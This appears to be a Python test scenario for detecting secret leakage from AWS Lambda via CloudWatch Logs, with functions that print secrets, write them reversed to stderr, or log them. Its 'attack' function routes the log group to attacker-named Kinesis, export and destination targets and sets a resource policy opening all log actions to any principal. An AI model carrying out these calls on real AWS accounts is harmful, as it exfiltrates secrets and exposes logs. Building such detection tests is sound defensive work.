"""A20: the own log as the way out: what is printed, and the log group led elsewhere.

Why by parts: what is printed is labelled, and what leads elsewhere must not depend on that.
"""

import json
import os
import sys
import time


def attack(hands):
    text, own = hands.plain(), group()
    begun(hands, own)
    there = hands.arn("kinesis", "stream/attackers-flow")
    role = f"arn:aws:iam::{hands.account}:role/any"
    leads = {"filterName": "all", "filterPattern": "", "destinationArn": there, "roleArn": role}
    if hands.call("logs", "PutSubscriptionFilter", logGroupName=own, **leads).status == 200:
        written(hands, own, text)
    lets = {"Sid": text, "Effect": "Allow", "Principal": "*", "Action": "logs:*", "Resource": "*"}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [lets]})
    hands.call("logs", "PutResourcePolicy", policyName="attackers-policy", policyDocument=policy)
    times = {"fromTime": 0, "to": 1}
    into = {"destination": "attackers-files", "destinationPrefix": text}
    hands.call("logs", "CreateExportTask", logGroupName=own, **into, **times)
    made = {"destinationName": f"attackers-{text}", "targetArn": there, "roleArn": role}
    hands.call("logs", "PutDestination", **made)
    named = {"policyName": text, "policyType": "SUBSCRIPTION_FILTER_POLICY"}
    hands.call("logs", "PutAccountPolicy", policyDocument=json.dumps({"DestinationArn": there}), **named)
    figures = [{"metricName": text, "metricNamespace": "attackers-figures", "metricValue": "1"}]
    counted = {"filterName": "f", "filterPattern": "", "metricTransformations": figures}
    hands.call("logs", "PutMetricFilter", logGroupName=own, **counted)
    written(hands, "/aws/lambda/attackers-group", text)


def by_print(hands):
    text = hands.secret()
    print(text)


def by_error(hands):
    os.write(2, f"{hands.secret()[::-1]}\n".encode())


def by_write(hands):
    """The call that Lambda itself makes."""
    text, own = hands.secret(), group()
    written(hands, own, text)


def twin(hands):
    text, own = hands.plain(), group()
    print(text, file=sys.stderr)
    begun(hands, own)
    written(hands, own, text)


def group():
    return f"/aws/lambda/{os.environ['AWS_LAMBDA_FUNCTION_NAME']}"


def begun(hands, own):
    """The group and a stream of it, as Lambda makes them."""
    hands.call("logs", "CreateLogGroup", logGroupName=own)
    hands.call("logs", "CreateLogStream", logGroupName=own, logStreamName="lines")


def written(hands, where, text):
    lines = [{"timestamp": int(time.time() * 1000), "message": text}]
    hands.call("logs", "PutLogEvents", logGroupName=where, logStreamName="lines", logEvents=lines)
